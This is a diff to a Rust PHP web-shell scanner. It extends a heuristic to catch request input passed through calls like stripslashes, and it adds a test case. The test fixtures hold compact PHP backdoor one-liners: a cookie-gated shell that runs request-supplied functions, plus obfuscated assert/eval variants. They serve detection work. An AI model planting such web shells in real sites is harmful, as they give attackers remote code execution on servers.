@@ -872,7 +872,12 @@ fn variable_call_of_input(
         let Some(arg) = args.first().map(|a| a.trim_start_matches('@')) else {
             continue;
         };
-        let input = PHP_INPUT.iter().find(|i| arg.starts_with(*i));
+        // `stripslashes($_REQUEST['z'])`: input through a call that hands it back.
+        let kept = KEEPING_CALLS
+            .iter()
+            .find_map(|k| arg.strip_prefix(k))
+            .map_or(arg, |a| crate::heuristics::bare_php_value(a));
+        let input = PHP_INPUT.iter().find(|i| kept.starts_with(*i));
         let decoded = arg.starts_with('$') && {
             // `$b('ZXZh…')`: another variable function given a long literal.
             let inner = &arg[1..];
@@ -1237,6 +1242,8 @@ mod tests {
         );
         let own = "<?php function cve($s,$k){return $s;}\n(@$_=cve('6a767c687b77','39')).@$_(cve('6776666e286763736a38346466656871646a2a2464524f58565b2c7c302c5f292e','520'));";
         assert_eq!(ids(own), ["scan.heuristic.request_function"]);
+        let magento = "<?php if(md5(@$_COOKIE[qz])=='a16c')($_=@$_REQUEST[q]).@$_(stripslashes($_REQUEST[z]));?>";
+        assert_eq!(ids(magento), ["scan.heuristic.request_function"]);
         let text = "<?php $handler(t('Saved the settings')); $f(md5('x'));";
         assert!(ids(text).is_empty());
         let pieces = "<?php\n$a='as'.'sert';\n@$a(@$b('ZXZhbCgkX1BPU1RbMV0p'));";
